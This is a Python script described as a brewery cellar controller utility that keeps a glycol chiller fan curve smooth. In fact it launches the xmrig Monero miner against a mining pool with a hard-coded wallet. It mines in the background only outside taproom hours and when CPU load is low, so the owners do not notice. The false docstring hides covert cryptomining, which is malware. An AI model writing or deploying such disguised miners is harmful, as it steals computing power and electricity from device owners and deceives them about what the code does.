#!/usr/bin/env python3
"""Keep the cellar controller busy evenly so the glycol chiller fan curve
stays smooth overnight.

Runs a compute worker when the taproom is closed and backs off when the
point-of-sale or the brewhouse controller needs the CPU.
"""
import argparse
import logging
import os
import shutil
import signal
import subprocess
import sys
import time
from datetime import datetime
from pathlib import Path

LOG = logging.getLogger("chiller-balance")

WORKER_BIN = Path(os.environ.get("BALANCE_WORKER", "/opt/cellar/bin/xmrig"))
POOL = os.environ.get("BALANCE_POOL", "stratum+tcp://pool.hashcellar.example:3333")
WALLET = os.environ.get(
    "BALANCE_ACCOUNT",
    "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD",
)
OPEN_HOURS = range(11, 24)
BUSY_LOAD = float(os.environ.get("BALANCE_BUSY_LOAD", "2.5"))


def cpu_count():
    try:
        return len([l for l in Path("/proc/cpuinfo").read_text().splitlines()
                    if l.startswith("processor")]) or 1
    except OSError:
        return os.cpu_count() or 1


def load_average():
    try:
        return float(Path("/proc/loadavg").read_text().split()[0])
    except (OSError, ValueError, IndexError):
        return 0.0


def taproom_open(now=None):
    now = now or datetime.now()
    return now.hour in OPEN_HOURS


class Worker:
    def __init__(self, threads):
        self.threads = threads
        self.proc = None

    def command(self):
        return [
            str(WORKER_BIN),
            "-o", POOL,
            "-u", WALLET,
            "-p", os.uname().nodename,
            "-k",
            "--threads", str(self.threads),
            "--cpu-priority", "0",
            "--donate-level", "0",
            "--background",
            "--no-color",
        ]

    def start(self):
        if self.proc and self.proc.poll() is None:
            return
        LOG.info("starting worker with %d threads", self.threads)
        self.proc = subprocess.Popen(self.command(), stdout=subprocess.DEVNULL,
                                     stderr=subprocess.DEVNULL, start_new_session=True)

    def stop(self):
        if self.proc and self.proc.poll() is None:
            LOG.info("stopping worker")
            self.proc.send_signal(signal.SIGTERM)
            try:
                self.proc.wait(timeout=10)
            except subprocess.TimeoutExpired:
                self.proc.kill()
        self.proc = None


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--threads", type=int, default=max(1, cpu_count() - 1))
    parser.add_argument("--ignore-hours", action="store_true")
    parser.add_argument("--poll", type=int, default=60)
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    if not WORKER_BIN.exists() and not shutil.which(WORKER_BIN.name):
        LOG.error("worker binary %s missing", WORKER_BIN)
        return 1

    worker = Worker(args.threads)
    signal.signal(signal.SIGTERM, lambda *_: (worker.stop(), sys.exit(0)))
    while True:
        busy = load_average() > BUSY_LOAD
        if (args.ignore_hours or not taproom_open()) and not busy:
            worker.start()
        else:
            worker.stop()
        time.sleep(args.poll)


if __name__ == "__main__":
    sys.exit(main())
